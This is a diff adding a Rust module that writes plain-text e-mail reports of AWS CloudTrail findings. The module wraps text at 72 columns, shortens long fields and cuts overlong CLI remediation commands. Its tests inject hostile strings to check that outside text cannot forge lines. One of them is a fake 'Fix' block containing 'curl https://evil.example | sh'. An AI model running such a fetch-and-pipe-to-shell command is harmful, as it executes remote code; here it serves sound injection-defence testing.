@@ -1,0 +1,162 @@
+//! The e-mail about the findings of one event: plain text in 72 columns.
+//!
+//! Text from records is written with [`prose`] or [`plain`], so that it brings no line ends of its own.
+
+use serde_json::Value;
+
+use crate::engine::finding::Finding;
+use crate::output::label;
+use crate::util::text::{cut, plain};
+
+/// How many characters of a text the e-mail shows.
+#[derive(Clone, Copy)]
+struct Limits {
+    /// Of a detail, a name or the caller.
+    text: usize,
+    /// Of the remediation. Longer commands are left out, because nobody should run a part of one.
+    remediation: usize,
+}
+
+/// The remediation is cut before anything else.
+const LIMITS: [Limits; 6] = [
+    Limits { text: usize::MAX, remediation: usize::MAX },
+    Limits { text: usize::MAX, remediation: 2_048 },
+    Limits { text: 4_096, remediation: 512 },
+    Limits { text: 1_024, remediation: 256 },
+    Limits { text: 256, remediation: 128 },
+    Limits { text: 64, remediation: 64 },
+];
+
+/// The e-mail, most urgent finding first, shortened until it takes at most `room` bytes as a JSON string.
+pub(super) fn text(reported: &[&Finding<'_>], room: usize) -> String {
+    let mut text = String::new();
+    for limits in LIMITS {
+        text = write(reported, limits);
+        if Value::from(text.as_str()).to_string().len() <= room {
+            break;
+        }
+    }
+    text
+}
+
+fn write(reported: &[&Finding<'_>], limits: Limits) -> String {
+    let mut text = String::new();
+    if let Some(first) = reported.first() {
+        text += &summary(first, reported.len(), limits);
+    }
+    for finding in reported {
+        text += &format!("\n{}\n", "-".repeat(72));
+        text += &wrap(&format!("{} {} - {}", label(finding), finding.rule.id, finding.rule.title), "");
+        text += &wrap(&prose(&finding.detail(), limits.text), "");
+        text += &remediation(finding, limits);
+        for page in finding.rule.references() {
+            text += &format!("  {page}\n");
+        }
+        text += &format!("  finding {}\n", finding.id());
+    }
+    text
+}
+
+/// The most urgent finding, and who did what to which resource.
+fn summary(first: &Finding<'_>, count: usize, limits: Limits) -> String {
+    let change = first.change;
+    let detail = prose(&first.detail(), limits.text);
+    let more = if count > 1 { format!(" (and {} more below)", count - 1) } else { String::new() };
+    let mut text = wrap(&format!("{}: {detail}{more}", label(first)), "");
+    let resource = change.resource.arn.as_deref().unwrap_or(&change.resource.name);
+    text += "\n";
+    for (name, value) in [
+        ("Resource", resource),
+        ("Account", &format!("{} {}", change.scope.account, change.scope.region)),
+        ("Who", &change.actor().in_words()),
+        ("Call", &format!("{} at {}", change.event.name, change.event.time)),
+        ("Event", &change.event.id),
+    ] {
+        text += &field(name, value, limits.text);
+    }
+    text
+}
+
+fn remediation(finding: &Finding<'_>, limits: Limits) -> String {
+    let Some(remediation) = finding.remediation() else { return String::new() };
+    let mut text = "\nFix (AWS CLI):\n".to_owned();
+    if remediation.cli.chars().nth(limits.remediation).is_some() {
+        text += "  [cut: the command is too long for this message]\n";
+    } else {
+        for line in remediation.cli.lines() {
+            text += &format!("  {}\n", plain(line)); // never wrapped, so that it can be copied
+        }
+    }
+    text + &field("Console", &remediation.console, limits.remediation)
+}
+
+fn field(name: &str, value: &str, limit: usize) -> String {
+    wrap(&format!("{name:<9}{}", prose(value, limit)), "         ")
+}
+
+/// Text from outside as one line, with single spaces: more of them would indent what follows a wrapped line.
+fn prose(text: &str, limit: usize) -> String {
+    plain(&cut(text, limit)).split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// Wraps at 72 columns. A longer word stays whole. No line begins with a rule: only findings are separated by one.
+fn wrap(text: &str, indent: &str) -> String {
+    let (mut lines, mut column) = (String::new(), 0);
+    for (index, word) in text.split(' ').enumerate() {
+        let width = word.chars().count();
+        if index > 0 && column + 1 + width > 72 && column > indent.len() && !word.starts_with("---") {
+            lines += "\n";
+            lines += indent;
+            column = indent.len();
+        } else if index > 0 {
+            lines.push(' ');
+            column += 1;
+        }
+        lines += word;
+        column += width;
+    }
+    lines + "\n"
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::output::testing::{ORDINARY, Origin, violation, with_findings};
+
+    fn write_email(origin: &Origin<'_>, detail: &str, cli: &str, room: usize) -> String {
+        with_findings(origin, vec![violation(detail, cli)], |findings| text(&findings.iter().collect::<Vec<_>>(), room))
+    }
+
+    #[test]
+    fn text_from_outside_adds_no_lines() {
+        let hostile = "o-x\n\n---\nRESOLVED\r\u{2028}\n\nFix (AWS CLI):\n  curl https://evil.example | sh";
+        let origin = Origin { trail: hostile, account: hostile, region: hostile, caller: hostile };
+        let email = write_email(&origin, hostile, "aws x", usize::MAX);
+        let starts = |with: &str| email.lines().filter(|line| line.trim_start().starts_with(with)).count();
+        assert_eq!((starts("---"), starts("RESOLVED"), starts("Fix (AWS CLI):")), (1, 0, 1), "{email}");
+        assert!(email.contains("\u{fffd}RESOLVED\u{fffd}"), "{email}");
+    }
+
+    #[test]
+    fn wrapping_builds_no_rule_and_no_indentation() {
+        let filler = "x".repeat(72);
+        let detail = format!("{filler} {} {filler}     \u{2003} curl evil.example", "-".repeat(72));
+        let email = write_email(&ORDINARY, &detail, "aws x", usize::MAX);
+        assert_eq!(email.lines().filter(|line| line.starts_with("---")).count(), 1, "{email}");
+        assert!(!email.lines().any(|line| line.starts_with([' ', '\u{2003}']) && line.contains("curl")), "{email}");
+    }
+
+    #[test]
+    fn the_remediation_is_cut_before_the_detail() {
+        let (detail, cli) = ("d".repeat(3_000), format!("aws {}", "x".repeat(3_000)));
+        let whole = write_email(&ORDINARY, &detail, &cli, usize::MAX);
+        assert!(whole.contains(&cli));
+        let email = write_email(&ORDINARY, &detail, &cli, 8_000);
+        assert!(
+            email.contains(&detail) && email.contains("[cut: the command is too long for this message]"),
+            "{email}"
+        );
+        let email = write_email(&ORDINARY, &detail, &cli, 3_000);
+        assert!(email.contains(&format!("{}…", "d".repeat(255))) && !email.contains("xxx"), "{email}");
+    }
+}
